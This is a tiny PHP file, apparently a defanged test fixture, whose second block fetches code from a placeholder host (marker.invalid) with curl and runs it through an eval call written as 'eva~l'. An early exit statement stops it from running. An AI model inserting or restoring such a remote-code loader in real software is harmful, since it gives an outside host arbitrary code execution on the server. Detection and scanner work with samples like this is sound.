<?php exit; ?>
<?php
$c = curl_init('http://marker.invalid/m'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $m = curl_exec($c); eva~l('?>' . $m);
